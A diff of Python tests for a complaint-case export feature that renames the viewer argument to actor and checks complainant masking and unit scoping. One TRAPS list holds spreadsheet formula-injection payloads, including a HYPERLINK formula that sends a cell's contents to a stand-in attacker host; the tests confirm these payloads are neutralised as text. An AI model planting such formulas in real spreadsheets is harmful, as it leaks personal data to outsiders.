@@ -45,7 +45,7 @@ def test_a_units_export_holds_no_complainant_identity_even_with_consent(
     with Session(ctx.engine) as session:
         flt = scope_for(session, unit)
     path = tmp_path / f"unit{suffix}"
-    assert export_cases(ctx, flt, path, viewer=unit) == 2
+    assert export_cases(ctx, flt, path, actor=unit) == 2
     rows = _read(path)
     text = "\n".join(",".join(r) for r in rows)
     assert "王五" not in text and "13800138000" not in text
@@ -55,7 +55,7 @@ def test_a_units_export_holds_no_complainant_identity_even_with_consent(
 
 def test_the_offices_own_export_carries_the_complainant(ctx: ServiceContext, tmp_path: Path) -> None:
     path = tmp_path / "office.xlsx"
-    assert export_cases(ctx, CaseFilter(limit=1000), path, viewer=DISPATCHER) == 2
+    assert export_cases(ctx, CaseFilter(limit=1000), path, actor=DISPATCHER) == 2
     rows = _read(path)
     assert {"反映人", "联系电话", "实名"} <= set(rows[0])
     assert any("13800138000" in r for r in rows[1:])
@@ -63,7 +63,7 @@ def test_the_offices_own_export_carries_the_complainant(ctx: ServiceContext, tmp
 
 def test_a_leaders_export_is_masked_too(ctx: ServiceContext, tmp_path: Path) -> None:
     path = tmp_path / "leader.csv"
-    export_cases(ctx, CaseFilter(limit=1000), path, viewer=LEADER)
+    export_cases(ctx, CaseFilter(limit=1000), path, actor=LEADER)
     assert "王五" not in path.read_text(encoding="utf-8-sig")
 
 
@@ -71,7 +71,7 @@ def test_an_export_of_another_units_cases_is_empty(ctx: ServiceContext, tmp_path
     other = unit_actor(ctx, "GS-FGW")
     with Session(ctx.engine) as session:
         flt = scope_for(session, other)
-    assert export_cases(ctx, flt, tmp_path / "other.csv", viewer=other) == 0
+    assert export_cases(ctx, flt, tmp_path / "other.csv", actor=other) == 0
 
 
 TRAPS = ["=HYPERLINK(\"http://evil.example/?\"&A2,\"点击\")", "+1+1", "-1+1", "@SUM(A1)", "＝1+1",
@@ -86,7 +86,7 @@ def test_typed_formulas_are_written_as_text_beside_the_complainant(
         service.register(complaint(title=f"{trap}拖欠工程款{i}", summary=trap, complainant_name="王五",
                                    subject_name=trap), actor=CLERK)
     path = tmp_path / f"office{suffix}"
-    assert export_cases(ctx, CaseFilter(limit=1000), path, viewer=DISPATCHER) == 2 + len(TRAPS)
+    assert export_cases(ctx, CaseFilter(limit=1000), path, actor=DISPATCHER) == 2 + len(TRAPS)
     if suffix == ".xlsx":
         cells = [c for row in load_workbook(path).worksheets[0].iter_rows() for c in row]
         assert [c.coordinate for c in cells if c.data_type == "f"] == []
